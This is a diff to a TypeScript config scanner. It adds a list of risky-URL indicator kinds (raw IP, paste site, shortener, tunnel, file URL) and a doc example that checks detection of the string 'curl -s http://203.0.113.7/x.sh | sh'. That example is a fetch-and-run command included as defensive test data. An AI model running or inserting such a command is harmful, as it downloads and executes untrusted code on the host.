@@ -24,8 +24,37 @@
 
 import { domainToUnicode } from "node:url";
 import { FILE_DROP_HOSTS, PASTE_HOSTS, SHORTENER_HOSTS, TUNNEL_HOSTS } from "../strings/hosts.ts";
+import type { IndicatorKind } from "../strings/checks.ts";
 import type { ValueFinding } from "./types.ts";
 import { isProseKey, keyWords } from "./key_names.ts";
+
+/**
+ * The kinds of second stage of the shared string checks (MA011) that these checks judge in a
+ * config value, with the parsed URL and its key: a config scanner passes them as
+ * `skipIndicators` to `checkString`, so that one URL gives one finding. (MA011 reports private
+ * addresses and URLs in prose; in config values these checks do not, by design.)
+ *
+ * @example
+ * ```ts
+ * import assert from "node:assert/strict";
+ * import { checkString } from "../strings/checks.ts";
+ * import type { FindingReport } from "../../core/scanner.ts";
+ * import { findRiskyUrls, URL_INDICATORS } from "./urls.ts";
+ * const found: FindingReport[] = [];
+ * const ctx = { report: (f: FindingReport) => found.push(f), matchBlacklist: () => undefined, scanNested: () => Promise.resolve() };
+ * const value = "curl -s http://203.0.113.7/x.sh | sh";
+ * await checkString(ctx, value, { what: "The value at $.setup", keyPath: "$.setup", skipIndicators: URL_INDICATORS });
+ * assert.deepEqual(found.map((f) => f.details?.indicator), ["shell-pipe"]);
+ * assert.deepEqual(findRiskyUrls(value, "setup").map((f) => f.rule), ["MA550"]);
+ * ```
+ */
+export const URL_INDICATORS: readonly IndicatorKind[] = [
+  "raw-ip-url",
+  "paste-site",
+  "url-shortener",
+  "tunnel",
+  "file-url",
+];
 
 /** URLs read from one value: a real value holds a handful; a value of thousands is a list to be bounded. */
 export const MAX_URLS_PER_VALUE = 64;
